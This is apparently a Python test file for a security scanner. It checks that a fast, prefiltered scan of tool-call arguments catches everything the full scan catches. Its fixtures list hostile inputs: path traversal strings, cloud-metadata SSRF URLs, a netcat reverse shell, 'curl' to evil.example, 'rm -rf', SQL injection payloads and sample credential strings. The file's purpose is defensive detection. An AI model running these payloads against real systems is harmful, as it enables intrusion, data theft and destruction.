"""The fast path (decode only on a trigger, run an analyzer only when its `may_find` prefilter
matches, one scan per distinct value) never reports less than the full path (decode and run
everything). Hypothesis over random strings built from every trigger, plus hand-written attacks."""

from __future__ import annotations

import re
import sys
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checkrein.config.policy import ArgKind
from checkrein.policy.analyzers import ScanContext, paths, scan, scan_arguments, secrets, shell, sql
from checkrein.policy.analyzers.scan import PREFILTERS, QUIET_WORD, TRIGGERS, scan_value
from checkrein.policy.analyzers.verdicts import VerdictCache

KINDS: list[ArgKind | None] = [None, "path", "url", "command", "query", "secret"]
CTX = {"path_roots": ("/srv/data",), "allowed_hosts": ("api.example.com",)}

# Pieces every prefilter keys on: separators, quotes, operators, decoder triggers, keywords, hosts.
PIECES = [
    "/", "\\", ".", "..", ":", "://", "~", "%", "%2e", "%c0%ae", "=", "\x00", "\u2215", "\u2019", "\u2013",
    "'", '"', "`", ";", "&", "&amp;", "&#46;", "|", "||", "$", "$(", "<", ">", "(", ")", "{", "#", "-", "--",
    "/*", "*/", "/*!", "@@", "_", "+", "\n", " ", "\t", "0x", "0x7f", "1", "2130706433", "10-0-0-1", "\uff0e",
    "or", "and", "xor", "order by", "limit", "like", "union", "select", "sleep(", "char(", "true", "false",
    "drop", "exec", "xp_", "dbms_", "pg_", "into outfile", "backup database", "load data", "copy ",
    "information_schema", "sysobjects", "mysql.user", "metadata", "instance-data", "localhost", "nip.io",
    "etc", "passwd", "shadow", ".htpasswd", "boot.ini", "php", "file:", "data:", "curl -s", "rm -rf",
    "wget", "sh", "<?php", "ifs", "password", "token", "key", "bearer ", "ghp_", "AKIA", "sk-", "eyJ",
    "-----BEGIN", "Li4vLi4vZXRjL3Bhc3N3ZA", "abcdefghijklmnop", "x", "Q", "reports", "data",
]  # fmt: skip

# Attacks of every analyzer, each in a shape the fast path must still decode or prefilter in.
ATTACKS: list[tuple[str, ArgKind | None]] = [
    ("../../../etc/passwd", None),
    ("..%c0%af..%c0%afetc%c0%afpasswd", None),
    (".htpasswd", None),
    ("Li4vLi4vZXRjL3Bhc3N3ZA==", None),
    ("/srv/data/..;/secrets", "path"),
    ("http://2852039166/latest/", None),
    ("2852039166", None),
    ("10-0-0-1", None),
    ("metadata", None),
    ("x; rm -rf /tmp/a", None),
    ("curl -s http://evil.example/x", None),
    ("or 1=1", None),
    ("limit 1--", None),
    ("1 exec xp_cmdshell", None),
    ("1-false", None),
    ("' –", None),
    ("x' OR 'a'='a", None),
    ("==", "query"),
    ("-- or #", "query"),
    ("password=hunter2hunter2", None),
    ("ghp_" + "Zq8Xw2Lm4Np6Rt0Vb3Yc5Hd7Jf9Kg1Saabcd", None),
]


def _both(value: Any, kind: ArgKind | None) -> tuple[set[tuple[str, str, str]], set[tuple[str, str, str]]]:
    ctx = ScanContext(kinds={"/v": kind} if kind else {}, **CTX)  # type: ignore[arg-type]
    args = {"v": value}
    fast = {(f.analyzer, f.kind, f.path) for f in scan_arguments(args, ctx)}
    full = {(f.analyzer, f.kind, f.path) for f in scan_arguments(args, ctx, full=True)}
    return fast, full


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join), st.sampled_from(KINDS))
def test_fast_path_never_reports_less_than_the_full_path(value: str, kind: ArgKind | None) -> None:
    fast, full = _both(value, kind)
    assert full <= fast, (value, kind, full - fast)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=40), st.sampled_from(KINDS))
def test_fast_path_matches_the_full_path_on_arbitrary_text(value: str, kind: ArgKind | None) -> None:
    fast, full = _both(value, kind)
    assert full <= fast, (value, kind, full - fast)


@pytest.mark.parametrize(("value", "kind"), ATTACKS)
def test_attacks_are_reported_by_the_fast_path_as_by_the_full_path(value: str, kind: ArgKind | None) -> None:
    fast, full = _both(value, kind)
    assert full, "fixture must be an attack the analyzers catch"
    assert full <= fast


def test_repeated_values_are_reported_at_every_pointer() -> None:
    """One scan per distinct value, but each occurrence keeps its own JSON pointer."""
    findings = scan_arguments({"a": "../../../etc/passwd", "b": ["../../../etc/passwd"]}, ScanContext())
    assert {f.path for f in findings if f.kind == "traversal"} == {"/a", "/b/0"}


@pytest.mark.parametrize("value", ["finance", "utf-8", "quarterly", "Summarise the figures for the board; keep them exact."])
def test_plain_values_skip_every_untyped_analyzer(value: str) -> None:
    """The prefilters do their job: ordinary words and prose run no analyzer at all (or only
    `shell`, which must look at a `;`)."""
    running = {name for name, may_find in PREFILTERS.items() if may_find(value, None)}
    assert running <= {"shell"}


# --- the fast path with the verdict cache ---------------------------------------------------------

# Shapes of every attack class (the `ATTACKS` above and the corpora's kinds of line, written here so
# the tests never need ../shared/), seeds that Hypothesis wraps in random pieces and re-cases.
EXTRA_SEEDS = [
    "....//....//etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/proc/self/environ",
    "file:///etc/shadow", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://0x7f000001:8080/", "gopher://127.0.0.1:6379/_",
    "$(id)", "`whoami`", "a|nc -e /bin/sh 10.0.0.1 4444", "%0aid", "${IFS}cat${IFS}/etc/passwd",
    "admin'--", "1 UNION SELECT username, password FROM users", "1; DROP TABLE users", "1' AND SLEEP(5)#",
    "aws_secret_access_key = Zq8Xw2Lm4Np6Rt0Vb3Yc5Hd7Jf9Kg1Sa/Tu8Wx2Ab", "Authorization: Bearer abcdefghijklmnopqrstuvwx123456",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v\n-----END RSA PRIVATE KEY-----",
]  # fmt: skip
SEEDS = [v for v, _ in ATTACKS] + EXTRA_SEEDS
_PIECE_RUN = st.lists(st.sampled_from(PIECES), max_size=3).map("".join)
CORPUS_LIKE = st.builds(
    lambda pre, seed, post, upper: (pre + (seed.upper() if upper else seed) + post),
    _PIECE_RUN, st.sampled_from(SEEDS), _PIECE_RUN, st.booleans(),
)  # fmt: skip
VALUES = st.one_of(st.lists(st.sampled_from(PIECES), max_size=8).map("".join), CORPUS_LIKE, st.text(max_size=40))
# One cache for every example, small enough to evict: hits come from earlier examples too, and two
# contexts with different roots and hosts share it (their verdicts must never mix).
SHARED = VerdictCache(max_entries=64)
CONTEXTS = [CTX, {"path_roots": ("/etc",), "allowed_hosts": ("169.254.169.254",)}]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(VALUES, st.sampled_from(KINDS), st.sampled_from(range(len(CONTEXTS))))
def test_cached_fast_path_never_reports_less_than_the_full_scan(value: str, kind: ArgKind | None, which: int) -> None:
    """Cold (first sight) and warm (a hit) both report at least the full scan's findings, and the
    same findings as each other: the cache never changes a verdict."""
    kinds: dict[str, ArgKind] = {"/v": kind, "/w/*": kind} if kind else {}
    ctx = ScanContext(kinds=kinds, verdicts=SHARED, **CONTEXTS[which])  # type: ignore[arg-type]
    full = {(f.analyzer, f.kind, f.path) for f in scan_arguments({"v": value}, ctx, full=True)}
    cold = {(f.analyzer, f.kind, f.path) for f in scan_arguments({"v": value}, ctx)}
    hits = SHARED.hits
    warm = {(f.analyzer, f.kind, f.path.replace("/w/0", "/v")) for f in scan_arguments({"w": [value]}, ctx)}
    quiet = kind is None and len(value) < 12 and value.isascii() and QUIET_WORD.fullmatch(value) is not None
    if kind != "secret" and not quiet and all(a != "secrets" for a, _, _ in cold):
        # Secrets are never stored; quiet words are skipped before the cache (cheaper than a lookup).
        assert SHARED.hits > hits, "the second sight is a cache hit"
    assert full <= cold, (value, kind, full - cold)
    assert warm == cold, (value, kind, warm ^ cold)


@pytest.mark.parametrize(("value", "kind"), ATTACKS + [(v, None) for v in EXTRA_SEEDS])
def test_every_seed_is_an_attack_and_the_cached_path_reports_it(value: str, kind: ArgKind | None) -> None:
    """The seeds are real attacks (the property above is not vacuous), reported cold and warm."""
    ctx = ScanContext(kinds={"/v": kind} if kind else {}, verdicts=VerdictCache(), **CTX)  # type: ignore[arg-type]
    full = {(f.analyzer, f.kind) for f in scan_arguments({"v": value}, ctx, full=True)}
    assert full, "fixture must be an attack the analyzers catch"
    for _ in range(2):
        assert full <= {(f.analyzer, f.kind) for f in scan_arguments({"v": value}, ctx)}


# --- one trigger pass for every prefilter ----------------------------------------------------------

_MODULES = {"paths": paths, "shell": shell, "sql": sql, "secrets": secrets}
_CLASSES = {"paths": paths._PATH_TRIGGER, "shell": shell._SHELL_TRIGGER, "sql": sql._TRIGGER_CHARS, "secrets": secrets._SECRET_TRIGGER}


@pytest.mark.parametrize("name", sorted(_MODULES))
def test_each_trigger_class_matches_exactly_its_trigger_set(name: str) -> None:
    """The regex a prefilter searches and the set the shared pass feeds it name the same characters."""
    chars = _MODULES[name].TRIGGERS
    assert chars <= TRIGGERS
    matched = {chr(c) for c in range(0x3000) if _CLASSES[name].fullmatch(chr(c))} | {c for c in chars if ord(c) >= 0x3000}
    assert matched == chars


def test_sql_triggers_are_the_same_in_the_value_and_its_lowercase() -> None:
    """`sql.may_find` searches the value, not its lowercase: no code point lowercases into a trigger."""
    into = [hex(c) for c in range(sys.maxunicode + 1) if chr(c) not in sql.TRIGGERS and not sql.TRIGGERS.isdisjoint(chr(c).lower())]
    assert into == []
    assert all(c.lower() == c for c in sql.TRIGGERS)


@settings(max_examples=300, deadline=None)
@given(st.one_of(VALUES, st.text(alphabet=st.sampled_from(list(TRIGGERS) + ["a", " ", "\u2028", "\x0c", "1"]), max_size=30)), st.sampled_from(KINDS))
def test_prefilters_fed_by_the_shared_pass_answer_as_on_their_own(value: str, kind: ArgKind | None) -> None:
    """`may_find(value, kind, triggers)` with the shared pass's triggers equals `may_find(value, kind)`."""
    triggers = frozenset(c for c in value if c in TRIGGERS)
    for name, may_find in PREFILTERS.items():
        assert may_find(value, kind, triggers) == may_find(value, kind), name


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(["a", "Z", "/", " ", "\t", "\n", "\u00a0", "\u2003", "\u3000", "\x1c", "\x85", "\u200b"]), max_size=40))
def test_long_token_test_agrees_with_the_regex_it_replaced(value: str) -> None:
    """`str.split` and `\\s` agree on spaces, so a 16-character token is found the same way."""
    assert (max(map(len, value.split()), default=0) >= 16) == (re.search(r"(?<!\S)\S{16}", value) is not None)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES + ["not", "between", "in (", "in(", " or ", " and ", "1", "x"]), max_size=10).map("".join))
def test_boolean_words_guard_is_a_necessary_condition(value: str) -> None:
    """Every `_BOOLEAN_GUARD` match holds `not`, `between` or `(`, the guard `sql.may_find` tests first, and
    `_BOOLEAN_GUARD` (what `may_find` searches) matches wherever `_BOOLEAN_WORDS` (the check's gate) does."""
    low = value.lower()
    if sql._BOOLEAN_GUARD.search(low) is not None:
        assert "not" in low or "between" in low or "(" in low
    if sql._BOOLEAN_WORDS.search(low) is not None:
        assert sql._BOOLEAN_GUARD.search(low) is not None


@pytest.mark.parametrize("value", ["x or 1 between 0 and 2", "a OR NOT 0", "1 and 1 in (1)", "q or ( a not between 1 and 2"])
def test_boolean_tautologies_pass_the_guard_and_are_reported(value: str) -> None:
    """The guarded regex still fires on the tautologies it exists for."""
    assert sql._BOOLEAN_GUARD.search(value.lower()) is not None
    assert sql.may_find(value, None)


# --- `sql.may_find` admits whatever `check_sql` finds -----------------------------------------------

# `check_sql` runs its fragments on `normalize_sql` output (whitespace runs collapsed to one space); the
# prefilter sees the raw value, where that space can be any run of whitespace, or none before `(`.
_SPACES = st.sampled_from(["", " ", "  ", "\n", "\t", "\r\n", "\u2028", "\u00a0", " \t\n", "\x0c", "\u3000"])


def _respace(data: st.DataObject, text: str) -> str:
    parts = text.split(" ")
    out = parts[0]
    for part in parts[1:]:
        out += data.draw(_SPACES) + part
    return out.upper() if data.draw(st.booleans()) else out


def _sql_admits(value: str) -> None:
    if sql.check_sql([value], "/v", None, ScanContext()):
        assert sql.may_find(value, None), value
        assert sql.may_find(value, None, frozenset(c for c in value if c in TRIGGERS)), value


@pytest.mark.parametrize("index", range(len(sql._FRAGMENTS)), ids=[f"{i}-{k}" for i, (k, _, _) in enumerate(sql._FRAGMENTS)])
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(data=st.data())
def test_sql_prefilter_admits_every_fragment_match(index: int, data: st.DataObject) -> None:
    """Strings drawn from each `_FRAGMENTS` pattern itself (so a new fragment is covered the day it is
    added), as drawn and with every space replaced by another whitespace run or none, in either case:
    wherever `check_sql` reports something, `may_find` lets the value through."""
    drawn = data.draw(st.from_regex(sql._FRAGMENTS[index][2]))
    _sql_admits(drawn)
    _sql_admits(_respace(data, drawn))


@pytest.mark.parametrize("name", sorted(sql._DANGEROUS_FUNCS | sql._TIME_FUNCS))
def test_sql_prefilter_admits_every_known_function_call(name: str) -> None:
    """Every function the check knows, called in a value that is not a `query`: reported or not by the
    fragments, never dropped by the prefilter."""
    for value in (f"{name}(1)", f"x {name} (0x41)", f"{name.upper()}\n(16384, '/tmp/x')", f"1 or {name}\t(5)", f"{name}(\u2028'a')"):
        _sql_admits(value)


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("1\nOR NOT 0", "tautology"), ("1\tOR NOT 0", "tautology"), ("1 OR\nNOT 0", "tautology"), ("1\u2028or 1 in (1)", "tautology"),
        ("1 OR(NOT 0)", "tautology"), ("1 or(1 in (1))", "tautology"), ("1 and(not 0)", "tautology"), ("x,or not 0", "tautology"),
        ("1\u00a0or\u00a01\u00a0between\u00a00\u00a0and\u00a02", "tautology"), ("1 or  not(0)", "tautology"),
        ("sys_exec(0x6964)", "dangerous_function"), ("sys_eval(0x6964)", "dangerous_function"), ("sys_bineval(0x6964)", "dangerous_function"),
        ("lo_export(16384, $$/tmp/x$$)", "dangerous_function"), ("lo_put(1,0,0x41)", "dangerous_function"),
        ("lo_from_bytea(0, 0x41)", "dangerous_function"), ("dblink_exec(1)", "dangerous_function"), ("dblink_connect (1)", "dangerous_function"),
        ("create function f() returns void as $$ import os $$ language plpython3u", "dangerous_function"),
        ("CREATE OR REPLACE\nFUNCTION f() RETURNS int AS $$x$$ LANGUAGE c", "dangerous_function"),
    ],
)  # fmt: skip
def test_sql_attacks_without_a_trigger_character_pass_the_prefilter(value: str, kind: str) -> None:
    """Tautologies spaced by any whitespace or none before `(`, and dangerous calls and `CREATE FUNCTION
    ... LANGUAGE` with no quote or comparison: reported by the fast path as by the full scan."""
    assert kind in {f.kind for f in sql.check_sql([value], "/v", None, ScanContext())}
    assert sql.may_find(value, None)
    fast, full = _both(value, None)
    assert ("sql", kind, "/v") in full and full <= fast


_SQL_SEEDS = [
    "1 or not 0", "1 and not 0", "x or 1 in (1)", "1 or 1 between 0 and 2", "1 or ( not 0 )", "a or not null", "1 and 2 not between 3 and 4",
    "sys_exec (1)", "lo_put (1)", "dblink_send_query (1)", "load_extension (1)", "create or replace function f () language plperlu",
    "1 ; drop table users", "into outfile x", "copy t to program x", "backup database x", "bulk insert t", "load data infile x",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(_SQL_SEEDS), st.data())
def test_sql_prefilter_admits_attacks_in_any_whitespace(seed: str, data: st.DataObject) -> None:
    """The seeds with their spaces replaced by `\\n`, `\\t`, `\\r\\n`, `\\u2028`, `\\u00a0`, runs of spaces or
    nothing (`or(`), in either case, between random pieces: whatever `check_sql` finds passes `may_find`."""
    value = data.draw(_PIECE_RUN) + _respace(data, seed) + data.draw(_PIECE_RUN)
    _sql_admits(value)


_QUIET_VALUES = st.from_regex(QUIET_WORD, fullmatch=True).filter(lambda v: len(v) < 12 and v.isascii())


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(st.one_of(_QUIET_VALUES, st.sampled_from(["utf-8", "latin-1", "en-gb", "finance", "x-1", "ab-cd12", "oracle", "truest"])))
def test_a_quiet_word_is_clean_under_the_full_scan(value: str) -> None:
    """Every untyped value the quiet-word shortcut skips has no finding from any analyzer, run in full."""
    ctx = ScanContext(**CTX)  # type: ignore[arg-type]
    if QUIET_WORD.fullmatch(value) is None or len(value) >= 12:
        return
    assert scan_value(value, "/v", None, ctx, full=True) == []
    assert scan_arguments({"v": value, "w": [value]}, ctx) == []


_ATTACK_PIECES = ["utf-8", "finance", "../", "/etc/passwd", "; rm -rf /", "' or 1=1--", "select", "union", "ghp_", "%2e", "\u212a", "\u017f", "true", "x-1"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_QUIET_VALUES, st.sampled_from(_ATTACK_PIECES).map(str), st.text(max_size=12)), min_size=1, max_size=6))
def test_scan_arguments_with_quiet_words_finds_what_the_full_scan_finds(values: list[str]) -> None:
    """Skipping quiet words in `scan_arguments` (before the memo and the cache) never loses a finding:
    the fast scan, cold and warm, reports every finding of the full scan, on quiet, random and attack-shaped values."""
    ctx = ScanContext(**CTX, verdicts=VerdictCache())  # type: ignore[arg-type]
    args = {"a": values, **{f"k{i}": v for i, v in enumerate(values)}}
    full = {(f.analyzer, f.kind, f.path) for f in scan_arguments(args, ctx, full=True)}
    for _ in range(2):
        fast = {(f.analyzer, f.kind, f.path) for f in scan_arguments(args, ctx)}
        assert full <= fast


_LETTER_WORDS = st.one_of(
    st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=1, max_size=11),
    st.lists(st.sampled_from(["and", "Or", "xor", "GROUP", "having", "procedure", "limit", "like", "union", "select", "metadata", "TRUE", "false", "x", "ab", "fin", "e"]), min_size=1, max_size=4)
    .map("".join)
    .filter(lambda v: len(v) < 12),
)


@settings(max_examples=2000, deadline=None)
@given(_LETTER_WORDS)
def test_the_letters_quiet_test_is_the_quiet_word_regex(value: str) -> None:
    """For an ASCII word of 1-11 letters, the string test that replaces the regex answers as `QUIET_WORD` does."""
    assert scan._letters_quiet(value) == (QUIET_WORD.fullmatch(value) is not None)


@settings(max_examples=500, deadline=None)
@given(st.one_of(_LETTER_WORDS, st.text(max_size=12), st.sampled_from(_ATTACK_PIECES)))
def test_scan_value_skips_a_word_only_when_the_full_scan_is_clean(value: str) -> None:
    """`scan_value` on an untyped value never reports less than the full scan, letter words included."""
    ctx = ScanContext(**CTX)  # type: ignore[arg-type]
    full = {(f.analyzer, f.kind) for f in scan_value(value, "/v", None, ctx, full=True)}
    assert full <= {(f.analyzer, f.kind) for f in scan_value(value, "/v", None, ctx)}
